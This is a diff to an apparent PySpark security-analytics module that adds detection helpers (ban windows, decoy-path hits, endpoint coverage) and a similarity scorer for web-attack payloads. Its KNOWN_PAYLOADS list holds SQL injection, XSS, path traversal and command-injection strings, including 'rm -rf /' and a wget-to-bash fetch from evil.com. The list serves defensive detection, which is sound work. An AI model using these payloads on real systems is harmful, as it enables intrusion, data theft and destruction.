@@ -4,9 +4,13 @@ from __future__ import annotations
 
 from collections.abc import Sequence
 
-from pyspark.sql import Column, DataFrame, Window
+from pyspark.sql import Column, DataFrame
 from pyspark.sql import functions as F
 
+from tracewarden.functions.text import RATIO_FEATURES, structural_features
+from tracewarden.operators.timeline import DAY, running, sliding_sums
+from tracewarden.rulesets import literal
+
 ONE = F.lit(1)
 
 
@@ -22,3 +26,132 @@ def url_allowlist(df: DataFrame, url: str, exact: DataFrame, prefixes: Sequence[
     if patterns:
         rest = rest.filter(~F.col(url).rlike("|".join(f"(?:{p})" for p in patterns)))
     return rest.join(exact.select(F.col("url").alias(url)).distinct(), url, "left_anti")
+
+
+def range_lookup(df: DataFrame, number: str, ranges: DataFrame, bucket: int = 65_536) -> DataFrame:
+    """Adds ``value`` of the last listed range (start, end, value, seq) that holds the number.
+
+    Only distinct numbers are looked up; they meet the ranges in equal-width buckets of the
+    number line, so a bucket holds at most ``bucket`` numbers however hot one of them is.
+    """
+    n = df.select(F.col(number).alias("n")).filter(F.col("n").isNotNull()).distinct().withColumn("b", F.floor(F.col("n") / bucket))
+    r = ranges.withColumn("b", F.explode(F.sequence(F.floor(F.col("start") / bucket), F.floor(F.col("end") / bucket))))
+    hit = n.join(r, "b").filter(F.col("n").between(F.col("start"), F.col("end")))
+    best = hit.groupBy("n").agg(F.max_by("value", "seq").alias("value"))
+    return df.join(best.withColumnRenamed("n", number), number, "left")
+
+
+def in_ranges(df: DataFrame, number: str, ranges: DataFrame, keep: bool = True, bucket: int = 65_536) -> DataFrame:
+    """Rows whose number lies in some range (start, end), or in none."""
+    n = df.select(F.col(number).alias("n")).filter(F.col("n").isNotNull()).distinct().withColumn("b", F.floor(F.col("n") / bucket))
+    r = ranges.select("start", "end", F.explode(F.sequence(F.floor(F.col("start") / bucket), F.floor(F.col("end") / bucket))).alias("b"))
+    hit = n.join(r, "b").filter(F.col("n").between(F.col("start"), F.col("end"))).select(F.col("n").alias(number)).distinct()
+    return df.join(hit, number, "left_semi" if keep else "left_anti")
+
+
+def under_ban(df: DataFrame, key: str, t: str, tie: str, bans: DataFrame, allowed: DataFrame, piece: int = DAY) -> DataFrame:
+    """Rows made while a ban of their key was in force, allowlisted keys left out.
+
+    ``bans`` has (key, start, expire). Starts count up, ends count down, and a row is under
+    ban while the key's running total is above zero; no row meets its bans pairwise.
+    """
+    open_ = bans.select(key, F.col("start").alias(t), F.lit(1).alias("_d"))
+    close = bans.filter(F.col("expire").isNotNull()).select(key, F.col("expire").alias(t), F.lit(-1).alias("_d"))
+    marks = open_.unionByName(close).withColumn("_o", F.struct(F.lit(0).alias("k"), F.lit(0).cast("bigint").alias("i")))
+    rows = df.withColumn("_d", F.lit(0)).withColumn("_o", F.struct(F.lit(1).alias("k"), F.col(tie).cast("bigint").alias("i")))
+    both = rows.unionByName(marks, allowMissingColumns=True)
+    run = running(both, [key], t, "_o", {"_open": ("sum", F.col("_d").cast("bigint"))}, piece)
+    return run.filter((F.col("_o.k") == 1) & (F.col("_open") > 0)).select(*df.columns).join(allowed.select(key).distinct(), key, "left_anti")
+
+
+def snapshot_diff(old: DataFrame, new: DataFrame, path: str, digest: str) -> DataFrame:
+    """Every path of two inventories as added, removed, changed or same."""
+    a = old.select(path, F.col(digest).alias("_a"))
+    b = new.select(path, F.col(digest).alias("_b"))
+    status = F.when(F.col("_a").isNull(), "added").when(F.col("_b").isNull(), "removed").when(F.col("_a") != F.col("_b"), "changed").otherwise("same")
+    return a.join(b, path, "full_outer").select(path, status.alias("status"))
+
+
+def line_diff(old: DataFrame, new: DataFrame, key: Sequence[str], text: str) -> DataFrame:
+    """Lines of one version without an equal trimmed line in the other, by key."""
+    def lines(df):
+        d = df.select(*key, F.posexplode(F.split(text, "\n")).alias("pos", "line"))
+        return d.select(*key, (F.col("pos") + 1).alias("line_no"), "line", F.md5(F.trim("line")).alias("_h"))
+
+    a, b = lines(old), lines(new)
+    on = [*key, "_h"]
+    return b.join(a.select(*on).distinct(), on, "left_anti").withColumn("change", F.lit("added")).unionByName(
+        a.join(b.select(*on).distinct(), on, "left_anti").withColumn("change", F.lit("removed"))).drop("_h")
+
+
+def decoy_hits(df: DataFrame, key: str, t: str, uri: str, decoys: Sequence[str], window: int = DAY) -> DataFrame:
+    """Requests for decoy paths and how many the key made in the trailing window."""
+    shape = "(?i)^(?:" + "|".join(literal(d) for d in decoys) + r")(?:$|\?|/)"
+    return sliding_sums(df.filter(F.col(uri).rlike(shape)), [key], t, {"recent": (window, F.lit(1))}, piece=window)
+
+
+def endpoint_coverage(df: DataFrame, key: str, endpoint: str, known: DataFrame) -> DataFrame:
+    """Share of the known endpoints that each key has visited."""
+    k = known.select(endpoint).distinct()
+    seen = df.select(key, endpoint).distinct().join(k, endpoint, "left_semi").groupBy(key).agg(F.count(ONE).alias("visited"))
+    return seen.withColumn("coverage", F.col("visited") / k.agg(F.count(ONE)).scalar())
+
+
+def pattern_similarity(df: DataFrame, ids: Sequence[str], text: str, patterns: Sequence[tuple[str, str, str]], weights: dict[str, float], least: float = 0.5) -> DataFrame:
+    """Best similarity per family of a text's structural features to those of known payloads.
+
+    ``patterns`` are (family, name, payload). The payloads' features are constants that
+    Spark folds once; a text's feature row is computed once and compared in place.
+    """
+    names = list(structural_features(F.lit("")))
+    ratio = F.array(*[F.lit(n in RATIO_FEATURES) for n in names])
+    w = F.array(*[F.lit(float(weights.get(n, 1))) for n in names])
+
+    def row(t: Column) -> Column:
+        f = structural_features(t)
+        return F.array(*[f[n].cast("double") for n in names])
+
+    known = F.array(*[F.struct(F.lit(fam).alias("family"), F.lit(name).alias("pattern"), row(F.lit(p)).alias("v")) for fam, name, p in patterns])
+
+    def similarity(v: Column) -> Column:
+        parts = F.zip_with(F.arrays_zip(F.col("_f").alias("a"), v.alias("b")), F.arrays_zip(ratio.alias("r"), w.alias("w")), lambda x, y: F.struct(
+            F.when(y["r"] & (x["a"] != 0), (1 - F.least(F.lit(1.0), F.abs(x["a"] - x["b"]) / F.greatest(x["a"], x["b"], F.lit(1.0)))) * y["w"])
+            .when((x["a"] == x["b"]) & (x["a"] > 0), y["w"]).otherwise(0.0).alias("m"),
+            F.when((y["r"] & (x["a"] != 0)) | (x["a"] > 0) | (x["b"] > 0), y["w"]).otherwise(0.0).alias("t")))
+        total = F.aggregate(parts, F.struct(F.lit(0.0).alias("m"), F.lit(0.0).alias("t")), lambda acc, p: F.struct(
+            (acc["m"] + p["m"]).alias("m"), (acc["t"] + p["t"]).alias("t")))
+        return F.when(total["t"] > 0, total["m"] / total["t"]).otherwise(0.0)
+
+    d = df.select(*ids, row(F.col(text)).alias("_f"))
+    scored = d.select(*ids, F.explode(F.transform(known, lambda k: F.struct(
+        k["family"].alias("family"), k["pattern"].alias("pattern"), similarity(k["v"]).alias("similarity")))).alias("s")).select(*ids, "s.*")
+    best = scored.groupBy(*ids, "family").agg(F.max("similarity").alias("similarity"), F.max_by("pattern", F.struct("similarity", "pattern")).alias("pattern"))
+    return best.filter(F.col("similarity") >= least)
+
+
+# Known payloads by family, whose feature rows are the patterns.
+KNOWN_PAYLOADS = [
+    ("sql_injection", "or_tautology", "1' OR '1'='1"), ("sql_injection", "union_select", "' UNION SELECT 1,2,3--"),
+    ("sql_injection", "blind_time", "1' AND SLEEP(5)--"),
+    ("sql_injection", "error_based", "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT table_name FROM information_schema.tables LIMIT 1),"
+     "FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--"),
+    ("sql_injection", "boolean_blind", "1' AND 1=2--"), ("sql_injection", "arithmetic_tautology", "5-5=0"),
+    ("xss", "img_onerror", "<img src=x onerror=alert(1)>"), ("xss", "script_tag", "<script>alert(1)</script>"),
+    ("xss", "javascript_protocol", '<a href="javascript:alert(1)">'), ("xss", "svg_onload", "<svg onload=alert(1)>"),
+    ("xss", "body_onload", "<body onload=alert(1)>"), ("xss", "eval_string", "eval('alert(1)')"),
+    ("path_traversal", "simple_etc_passwd", "../../../etc/passwd"), ("path_traversal", "url_encoded", "..%2f..%2f..%2fetc%2fshadow"),
+    ("path_traversal", "double_encoded", "%252e%252e%252fetc%252fpasswd"), ("path_traversal", "windows_boot_ini", "..\\..\\..\\Windows\\win.ini"),
+    ("path_traversal", "web_config", "../../config.php"),
+    ("command_injection", "semicolon_cat", "127.0.0.1; cat /etc/passwd"), ("command_injection", "pipe_ls", "127.0.0.1 | ls -la"),
+    ("command_injection", "backtick_id", "`id`"), ("command_injection", "dollar_paren", "$(whoami)"),
+    ("command_injection", "and_rm", "127.0.0.1 && rm -rf /"), ("command_injection", "wget_pipe_bash", "wget http://evil.com/shell.sh | bash"),
+    ("command_injection", "sleep_blind", "127.0.0.1; sleep 5"),
+]
+# Weights of the features in the comparison, 1 for all others.
+FEATURE_WEIGHTS = {
+    "has_or_keyword": 5, "has_and_keyword": 5, "has_union": 6, "has_select": 6, "has_script": 8, "has_img": 4, "has_onerror": 6,
+    "has_javascript": 7, "has_eval": 7, "has_alert": 5, "has_backtick": 6, "has_dollar_paren": 6, "has_double_dash": 4,
+    "has_etc_passwd": 8, "has_etc_shadow": 9, "dotdot_count": 6, "has_rm": 8, "has_cat": 5, "has_wget": 7, "has_curl": 7, "has_bash": 8,
+    "semicolon_count": 5, "pipe_count": 5, "tag_count": 5, "has_like": 3, "has_where": 4, "has_from": 4, "has_config_php": 7,
+    "quote_count": 4, "paren_count": 3, "has_pipe_chain": 6, "special_ratio": 4, "keyword_density": 5, "has_htaccess": 6,
+}
